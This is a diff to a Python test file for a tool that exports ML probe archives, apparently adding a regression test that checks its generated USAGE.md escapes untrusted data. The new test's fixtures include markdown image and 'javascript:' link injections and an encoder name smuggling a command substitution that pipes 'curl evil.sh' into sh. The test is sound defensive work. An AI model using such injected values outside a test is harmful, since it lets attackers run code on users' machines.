@@ -127,9 +127,9 @@ def test_probe_zip_predicts_what_the_run_stored(finished, tmp_path):
                                                                            "head.safetensors", "report.json")]
             # what the probe takes and how to apply it (a dashboard-only round found no word of either)
             usage = archive.read(f"{run_id}/USAGE.md").decode()
-            assert "It takes features of the encoder `effnet-lite0`" in usage
+            assert "It takes features of the encoder effnet-lite0" in usage
             assert f"mr2probe predict {run_id} --features new.h5 --out predictions.csv" in usage
-            assert f'probe = RunProbe.load("{run_id}")' in usage
+            assert f"probe = RunProbe.load('{run_id}')" in usage
             archive.extractall(tmp_path)
         probe = RunProbe.load(tmp_path / run_id)
         (path,) = finished.settings.caches_dir.rglob("*.h5")  # the pipeline's one cache
@@ -396,3 +396,18 @@ def test_a_run_deleted_while_its_probe_is_zipped_is_a_404(finished, monkeypatch)
     resp = finished.client.get(f"/api/runs/{finished.mr2}/probe.zip")
     assert resp.status_code == 404 and resp.json()["detail"] == (
         f"run {finished.mr2!r} was removed while its probe was zipped")
+
+
+def test_usage_escapes_what_comes_from_a_data_set_or_a_cache_file():
+    """A review: class names in USAGE.md made images and links, and an encoder attribute with backticks ran a command
+    pasted from its bash block."""
+    from types import SimpleNamespace
+
+    from app.shipped import usage_text
+
+    report = SimpleNamespace(class_names=["![x](https://t.example/a.png)", "[click](javascript:alert(1))"],
+                             features=SimpleNamespace(encoder="vit`; curl evil.sh|sh; echo `", preprocess=None,
+                                                      weights_sha256=None, normalized=False))
+    text = usage_text("run_x", report)
+    assert "![x]\\(https://" in text and "[click]\\(javascript:" in text
+    assert "--encoder 'vit`; curl evil.sh|sh; echo `' --out new.h5" in text
